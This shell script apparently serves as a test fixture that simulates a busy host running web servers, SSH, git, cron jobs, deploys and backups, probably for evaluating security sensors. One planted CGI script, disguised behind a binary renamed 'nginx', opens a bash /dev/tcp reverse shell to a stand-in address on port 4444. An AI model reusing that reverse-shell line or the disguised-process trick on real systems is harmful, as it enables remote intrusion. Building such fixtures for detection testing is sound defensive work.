#!/bin/sh
# A small host at work, as pid 1 of a pid namespace: real daemons, and what they, cron, people and packages make of a day.
# Usage: world.sh DIRECTORY. Makes DIRECTORY/ready when all listens, works once whenever there is DIRECTORY/go, and tells in
# DIRECTORY/done-NAME that a piece of work ended well. Pauses are there for sensors that only look every half second.
set -u
W=$1
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export PATH W
unset SSH_CONNECTION SSH_CLIENT SSH_TTY
mount -t tmpfs -o mode=0755 world /var/spool
mkdir -p /var/spool/cron/crontabs /home/www /home/log "$W/tmp" "$W/work" && cd "$W/work" || exit 1
chmod 755 "$W" "$W/work"
GIT=$(git --exec-path)

# --- what it runs from: scripts, written as their owners would ---
script() { cat >"$1" && chmod 755 "$1"; }
mkdir -p /home/www/cgi-bin
printf 'a web page\n' >/home/www/index.html
script /home/www/cgi-bin/health <<'S'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
ps | wc -l; uptime; sleep 0.7
date >"$W/done-health"
S
script /home/www/cgi-bin/contact <<'S'
#!/bin/sh
# As PHP's mail() does it: a shell that hands a mail to sendmail.
printf 'Content-Type: text/plain\r\n\r\n'
printf 'Subject: hello\n\nhello\n' | sh -c "/bin/cat >/home/log/mail; sleep 0.7" && date >"$W/done-mail"
S
script /home/hook.sh <<'S'
#!/bin/sh
# Deploy: fetch what was built, make it executable, run its own check from where it was put.
set -e
dir=$(mktemp -d "$W/tmp/deploy.XXXXXX")
curl -sf -o $dir/busybox http://127.0.0.1:8000/app
chmod 755 $dir/busybox
$dir/busybox sleep 0.8
rm -rf $dir
date >"$W/done-deploy"
S
script /home/ci.sh <<'S'
#!/bin/sh
set -e
dir=$(mktemp -d "$W/tmp/build.XXXXXX") && cd $dir
printf '#include <unistd.h>\nint main(void) { usleep(800000); return 0; }\n' >test.c
cc -o app.test test.c
./app.test
cd / && rm -rf $dir
date >"$W/done-build"
S
script /home/check.sh <<'S'
#!/bin/bash
# A monitor's check: what listens, who runs, and whether the web server answers, by bash alone.
ss -tln >/home/log/ss; ps -e >/home/log/ps
exec 3<>/dev/tcp/198.51.100.1/8082 && printf 'GET / HTTP/1.0\r\n\r\n' >&3 && head -n 1 <&3 >/home/log/check
sleep 0.7
date >"$W/done-check"
S
script /home/backup.sh <<'S'
#!/bin/sh
set -e
tar -C / -czf /home/log/etc.tgz etc || [ $? -eq 1 ] # what changes meanwhile
! command -v rsync >/dev/null || rsync -a /etc/ /home/log/etc/
sleep 0.7
date >"$W/done-backup"
S
script /home/package.sh <<'S'
#!/bin/sh
# A package with a script that brings a unit, into a root of its own.
set -e
root=$W/work/root
mkdir -p p/DEBIAN $root/bin $root/etc/systemd/system $root/var/lib/dpkg/info $root/var/lib/dpkg/updates $root/var/lib/dpkg/triggers
for name in sh sleep; do cp "$(command -v busybox)" $root/bin/$name; done
: >$root/var/lib/dpkg/status
: >$root/var/lib/dpkg/available
printf 'Package: newd\nVersion: 1\nArchitecture: all\nMaintainer: x <x@example.org>\nDescription: x\n' >p/DEBIAN/control
printf '#!/bin/sh\necho "[Service]" >/etc/systemd/system/newd.service\nsleep 1\n' >p/DEBIAN/postinst
chmod 755 p/DEBIAN/postinst
dpkg-deb --build p newd.deb >/dev/null
dpkg --root=$root --log=/home/log/dpkg -i newd.deb >/home/log/dpkg.out 2>&1
test -s $root/etc/systemd/system/newd.service
date >"$W/done-package"
S
script /home/renew.sh <<'S'
#!/bin/sh
# As a certificate client does: a challenge answered on port 80 for a moment, a new key in place, the server told.
set -e
timeout 2 python3 -m http.server 80 --bind 127.0.0.1 --directory /home/www >/dev/null 2>&1 &
sleep 1
curl -sf http://127.0.0.1:80/ >/dev/null
mkdir -p /etc/ssl/renewed
head -c 64 /dev/urandom | base64 >/etc/ssl/renewed/privkey.pem
kill -HUP "$(cat /run/nginx.pid)"
date >"$W/done-renew"
S
script /home/rotate.sh <<'S'
#!/bin/sh
set -e
printf '/home/log/access {\n  rotate 2\n  su root root\n  postrotate\n    kill -HUP $(cat /run/nginx.pid); sleep 0.7\n  endscript\n}\n' >/home/log/rotate.conf
chmod 644 /home/log/rotate.conf
logrotate -f -s /home/log/rotate.state /home/log/rotate.conf
date >"$W/done-rotate"
S
script /home/play.py <<'S'
import os, subprocess
os.makedirs(os.path.expanduser("~/.config/systemd/user"), exist_ok=True)
open(os.path.expanduser("~/.config/systemd/user/site.service"), "w").write("[Service]\n")
subprocess.run(["sh", "-c", "id; uname -a; sleep 0.7"], check=True, stdout=subprocess.DEVNULL)
S
script /home/server.js <<'S'
// A language server: listens for its editor, and asks the compiler.
const server = require('net').createServer().listen(40002, '127.0.0.1', () =>
  require('child_process').exec('cc --version; sleep 0.7', () => server.close()));
S
script /home/hookd.py <<'S'
import http.server, subprocess, sys
class Hook(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        done = subprocess.run(["/bin/sh", sys.argv[2]]).returncode
        self.send_response(200 if done == 0 else 500)
        self.end_headers()
http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Hook).serve_forever()
S

# --- its daemons ---
mkdir -p /home/artefacts && cp "$(command -v busybox)" /home/artefacts/app
busybox httpd -p 127.0.0.1:8083 -h /home/www
cat >/home/nginx.conf <<'S'
user root;
pid /run/nginx.pid;
error_log /home/log/error;
events {}
http {
  access_log /home/log/access;
  client_body_temp_path /home/log/body; proxy_temp_path /home/log/proxy; fastcgi_temp_path /home/log/fastcgi;
  uwsgi_temp_path /home/log/uwsgi; scgi_temp_path /home/log/scgi;
  server { listen 8082; location / { proxy_pass http://127.0.0.1:8083; } }
}
S
nginx -c /home/nginx.conf
python3 -m http.server 8000 --bind 127.0.0.1 --directory /home/artefacts >/dev/null 2>&1 &
python3 /home/hookd.py 9000 /home/hook.sh >/dev/null 2>&1 &
python3 /home/hookd.py 8888 /home/ci.sh >/dev/null 2>&1 &
socat TCP-LISTEN:5666,bind=127.0.0.1,fork,reuseaddr EXEC:/home/check.sh >/dev/null 2>&1 &
mkdir -p /home/git && git init -q --bare /home/git/site.git && touch /home/git/site.git/git-daemon-export-ok
script /home/git/site.git/hooks/post-receive <<'S'
#!/bin/sh
read -r _ new _ && git --git-dir=/home/git/site.git rev-parse "$new" >/home/log/pushed
curl -s -o /dev/null http://127.0.0.1:8000/; sleep 0.7
date >"$W/done-push"
S
"$GIT/git-daemon" --listen=127.0.0.1 --base-path=/home/git --enable=receive-pack --reuseaddr >/dev/null 2>&1 &
ssh-keygen -q -t ed25519 -N '' -f "$W/work/id"
ssh-keygen -q -t ed25519 -N '' -f "$W/work/host"
useradd -m -s /bin/sh anna && usermod -p '*' anna
mkdir -p /home/keys && cp "$W/work/id.pub" /home/keys/anna && chmod 755 /home/keys
printf 'Port 2222\nHostKey %s\nUsePAM no\nPidFile none\nAuthorizedKeysFile /home/keys/%%u\nUseDNS no\nStrictModes no\n' "$W/work/host" >/home/sshd.conf
/usr/sbin/sshd -f /home/sshd.conf
# One of its web applications has a hole: who asks for it is called back by a shell.
mkdir -p /home/shop/cgi-bin && cp "$(command -v busybox)" /home/shop/nginx
script /home/shop/cgi-bin/hole.sh <<'S'
#!/bin/sh
printf 'Content-Type: text/plain\r\n\r\n'
exec bash -c 'exec 3<>/dev/tcp/198.51.100.7/4444 && exec sh <&3 >&3 2>&3'
S
bash -c 'exec -a busybox /home/shop/nginx httpd -f -p 8080 -h /home/shop' &
for port in 8080 8082 8083 8000 9000 8888 5666 9418 2222; do
    n=0
    until bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null; do
        n=$((n + 1)); [ $n -lt 100 ] || { echo "port $port does not listen" >&2; exit 1; }
        sleep 0.1
    done
done
rm -f "$W"/done-*
: >"$W/ready"

# --- the work ---
over_ssh() {
    ssh -F /dev/null -i "$W/work/id" -p 2222 -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR anna@127.0.0.1 "$@"
}
{
    printf 'PATH=%s\nW=%s\n' "$PATH" "$W"
    for job in backup package renew; do echo "@reboot root cd $W/work && /bin/sh /home/$job.sh >/home/log/$job.out 2>&1"; done
    ! command -v logrotate >/dev/null || echo '@reboot root sleep 3; /bin/sh /home/rotate.sh >/home/log/rotate.out 2>&1'
} >/etc/cron.d/world
work() {
    # For cron this is a boot each time.
    [ ! -e /run/crond.pid ] || kill "$(cat /run/crond.pid)"
    sleep 0.2
    rm -f /run/crond.reboot /run/crond.pid
    cron
    for url in http://127.0.0.1:8082/cgi-bin/health http://127.0.0.1:8082/cgi-bin/contact; do curl -s -o /dev/null $url & done
    curl -s -X POST http://127.0.0.1:9000/ &
    curl -s -X POST http://127.0.0.1:8888/ &
    socat -u TCP:127.0.0.1:5666 STDOUT >/dev/null 2>&1 &
    (
        site=$(mktemp -d /home/site.XXXXXX) && git clone -q git://127.0.0.1/site.git "$site" 2>/dev/null && cd "$site" &&
            git -c user.name=x -c user.email=x@example.org commit -q --allow-empty -m one && git push -q origin "HEAD:refs/heads/at-$(date +%s%N)"
    ) &
    (over_ssh python3 - </home/play.py && date >"$W/done-play") &
    (over_ssh "tmux -L world -f /dev/null new-session -d 'vim -es -c \"!sleep 0.7\" -c q'; sleep 1; tmux -L world kill-server; true" && date >"$W/done-editor") &
    if command -v node >/dev/null; then (over_ssh "node /home/server.js" && date >"$W/done-language-server") & fi
}
# As pid 1 it stays until the end.
while :; do
    until [ -e "$W/go" ]; do sleep 0.1; done
    rm -f "$W/go"
    work
done
